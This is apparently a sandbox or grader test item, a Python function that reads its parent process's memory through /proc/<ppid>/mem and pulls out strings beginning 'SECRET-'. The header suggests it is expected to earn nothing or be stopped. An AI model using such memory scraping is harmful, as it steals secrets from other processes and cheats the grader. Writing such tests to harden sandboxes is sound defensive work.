"""Reads the memory of the process that started it."""
# item: call
# earns: 0
# ends: value raised died timeout
# needs: processes
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def answer(x):
    with open(f'/proc/{os.getppid()}/maps') as maps:
        places = [line.split()[0].split('-') for line in maps if 'heap' in line or 'rw-p' in line]
    found = b''
    with open(f'/proc/{os.getppid()}/mem', 'rb') as memory:
        for start, end in places[:50]:
            try:
                memory.seek(int(start, 16))
                block = memory.read(int(end, 16) - int(start, 16))
                place = block.find(b'SECRET-')
                found += block[place : place + 13] if place >= 0 else b''
            except (OSError, ValueError):
                pass
    return found.decode()
